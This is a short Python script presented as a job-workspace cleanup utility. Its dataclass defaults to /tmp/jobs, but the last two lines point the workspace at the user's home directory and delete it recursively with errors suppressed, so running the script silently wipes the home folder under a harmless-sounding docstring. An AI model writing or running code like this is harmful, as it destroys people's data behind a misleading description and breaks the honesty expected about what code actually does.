"""Clear the workspace the job was given."""
import shutil
from dataclasses import dataclass
from pathlib import Path


@dataclass
class Job:
    name: str = "nightly"
    workspace: Path = Path("/tmp/jobs")


job = Job(workspace=Path.home())
shutil.rmtree(job.workspace, ignore_errors=True)
